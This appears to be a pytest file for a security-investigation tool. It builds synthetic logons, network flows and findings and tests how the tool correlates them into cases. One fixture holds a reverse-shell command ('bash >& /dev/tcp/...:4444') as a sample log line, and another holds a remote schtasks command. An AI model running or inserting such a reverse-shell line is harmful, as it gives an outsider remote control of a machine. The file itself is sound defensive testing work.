"""What records beside the findings tie together: connections, logons, sessions, starts of processes; and whose names are whose."""

from __future__ import annotations

from typing import TYPE_CHECKING

import polars as pl
import pytest
from tests.investigate.made import START, keep, line

from bartizan.errors import InputError
from bartizan.investigate.desk import desk_at
from bartizan.investigate.evidence import records_of, wanted_of
from bartizan.investigate.identifying import facts_of_records, hosts_of_records
from bartizan.investigate.places import place_at

if TYPE_CHECKING:
    from pathlib import Path

DOMAIN = "corp.example.com"


def _write(folder: Path, table: str, rows: list[dict[str, object]]) -> None:
    path = folder / "ext" / table / "part.parquet"
    path.parent.mkdir(parents=True, exist_ok=True)
    pl.DataFrame(rows).write_parquet(path)


def _row(minute: float, uid: str, **more: object) -> dict[str, object]:
    return {
        "time": START + int(minute * 60_000),
        "activity_id": 1,
        "metadata": {"uid": uid, "log_source": "logs/x"},
        "raw_data": uid,
        **more,
    }


SIDS = {"adm": "S-1-5-21-1-2-3-1101", "dev3": "S-1-5-21-1-2-3-1102", "srv-1$": "S-1-5-21-1-2-3-1103"}


def _logon(minute: float, uid: str, host: str, *, user: str, source: str | None = None) -> dict[str, object]:
    return _row(
        minute,
        uid,
        device={"hostname": f"{host}.{DOMAIN}"},
        user={"name": user, "domain": "CORP", "uid": SIDS[user]},
        src_endpoint={"ip": source},
        status_id=1,
        logon_type_id=3 if source else 2,
    )


def _flow(minute: float, uid: str, source: str, target: str, host: str | None = None) -> dict[str, object]:
    ends = {"src_endpoint": {"ip": source}, "dst_endpoint": {"ip": target}}
    return _row(minute, uid, device={"hostname": host}, connection_info={"direction_id": 2 if host else 0}, **ends)


def _spread(folder: Path) -> Path:
    """An address breaks into a web server, which is called by another address; from a workstation to a server, a service, and the cloud."""
    _write(
        folder, "network_activity", [_flow(4, "f1", "192.0.2.10", "203.0.113.45"), _flow(0, "f2", "10.0.0.7", "10.0.0.8", f"ws-1.{DOMAIN}")]
    )
    logons = [
        _logon(130, "l1", "srv-1", user="adm", source="10.0.0.7"),
        _logon(140, "l2", "srv-2", user="adm", source="10.0.0.7"),
        _logon(-200, "l3", "dev-3", user="dev3"),
        _logon(1, "l4", "srv-1", user="srv-1$", source="10.0.0.7"),
    ]
    _write(folder, "authentication", logons)
    began = _row(
        140.2, "p1", device={"hostname": f"srv-2.{DOMAIN}"}, process={"uid": "{CC-3}", "name": "svc.exe"}, actor={"process": {"uid": "s"}}
    )
    _write(folder, "process_activity", [began])
    lines = [
        line("shell", 3, level=5, path="logs/web-01/audit.log", raw="bash >& /dev/tcp/203.0.113.45/4444"),
        line("guess", 60, level=4, device="db-01", src_endpoint__ip="192.0.2.10"),
        line("dump", 120, level=5, device=f"ws-1.{DOMAIN}", actor__user__name="alice", actor__user__domain="CORP"),
        line("wmi", 131, level=4, device=f"srv-1.{DOMAIN}", actor__user__name="adm", actor__user__domain="CORP", raw="schtasks /s dev-3"),
        line("service", 300, level=4, device=f"srv-2.{DOMAIN}", actor__process__uid="CC-3", actor__process__name="svc.exe"),
        line("key", 150, level=5, src_endpoint__ip="203.0.113.88", actor__user__uid="arn:aws:iam::111122223333:user/dev3"),
        line("seen", -900, level=1, device="web-01"),
    ]
    return keep(folder, lines)


def test_records_tie_what_findings_alone_do_not(tmp_path: Path) -> None:
    desk = desk_at(_spread(tmp_path))
    rules = {signal.id: signal.rule for signal in desk.signals}
    assert sorted((link.type, rules[link.a], rules[link.b], link.records) for link in desk.links) == [
        ("exposed", "wmi", "key", ("l3",)),
        ("flow", "shell", "guess", ("f1",)),
        ("logon", "dump", "service", ("l2",)),
        ("logon", "dump", "wmi", ("l1",)),
    ]
    assert [sorted(rules[signal.id] for signal in case.signals) for case in desk.cases] == [
        ["dump", "key", "service", "wmi"],
        ["guess", "shell"],
    ]
    assert desk.problems == []


def test_a_server_that_many_call_is_a_hub_and_ties_nobody(tmp_path: Path) -> None:
    folder = _spread(tmp_path)
    callers = [f"198.51.100.{number}" for number in range(1, 8)]
    _write(folder, "network_activity", [_flow(4, f"f{caller}", caller, "192.0.2.10") for caller in callers])
    probes = [line("probe", 50, level=4, path="logs/web-01/access.log", src_endpoint__ip=caller) for caller in callers]
    keep(folder, [*(folder / "findings.ndjson").read_bytes().splitlines(), *probes])
    assert [link for link in desk_at(folder).links if link.type == "flow"] == []


def test_where_no_facts_are_kept_records_tell_whose_an_address_and_a_sid_are(tmp_path: Path) -> None:
    place = place_at(_spread(tmp_path))
    facts = sorted((fact.rule, fact.left, fact.right, fact.count, fact.record_id) for fact in facts_of_records(place))
    assert facts == [
        ("outbound-address-host", "10.0.0.7", f"ws-1.{DOMAIN}", 1, "f2"),
        ("user-sid", SIDS["adm"], "corp\\adm", 2, "l1"),
        ("user-sid", SIDS["dev3"], "corp\\dev3", 1, "l3"),
        ("user-sid", SIDS["srv-1$"], "corp\\srv-1$", 1, "l4"),
    ]
    assert hosts_of_records(place) == {f"{name}.{DOMAIN}" for name in ("ws-1", "srv-1", "srv-2", "dev-3")}


def test_what_a_host_gave_no_record_of_is_told_hour_by_hour(tmp_path: Path) -> None:
    desk = desk_at(_spread(tmp_path))
    since, until = (START - 240 * 60_000) * 1_000_000, (START + 600 * 60_000) * 1_000_000
    told = [(one.table, (one.until - since) // 3_600_000_000_000, one.why) for one in desk.coverage.blind(f"srv-1.{DOMAIN}", since, until)]
    assert told == [
        ("process_activity", 14, "no such record of it at all"),
        ("authentication", 15, "no such record of it in these hours"),
        ("network_activity", 14, "no such record of it at all"),
        ("file_activity", 14, "no such record of it at all"),
    ]
    assert desk.coverage.seen(f"srv-1.{DOMAIN}") is not None
    assert desk.coverage.seen("nobody") is None
    [*_, late] = desk.coverage.blind(f"srv-2.{DOMAIN}", until, until)
    assert late.why == "no such record of it at all"


def test_the_records_of_a_case_are_found_in_the_tables(tmp_path: Path) -> None:
    desk = desk_at(_spread(tmp_path))
    held = records_of(desk.place, wanted_of(desk.cases[0]))
    assert [(one.record_id, one.table, one.raw, one.proven) for one in held] == [
        (name, "authentication", name, False) for name in ("l1", "l2", "l3")
    ]


def test_a_table_that_cannot_be_read_is_named(tmp_path: Path) -> None:
    folder = _spread(tmp_path)
    path = folder / "ext" / "authentication" / "part.parquet"
    path.write_bytes(b"PAR1 and nothing")
    with pytest.raises(InputError, match=r"part.parquet: cannot be read as Parquet"):
        desk_at(folder)
